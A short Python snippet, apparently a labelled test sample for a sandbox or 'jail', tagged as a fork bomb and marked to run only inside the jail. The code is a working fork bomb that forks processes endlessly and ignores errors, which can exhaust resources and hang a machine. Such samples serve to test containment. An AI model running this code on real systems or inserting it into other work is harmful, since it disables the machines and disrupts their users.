# category: fork-bomb
# kind: function
# danger: jail (run only inside the jail)
import os
while True:
    try: os.fork()
    except OSError: pass
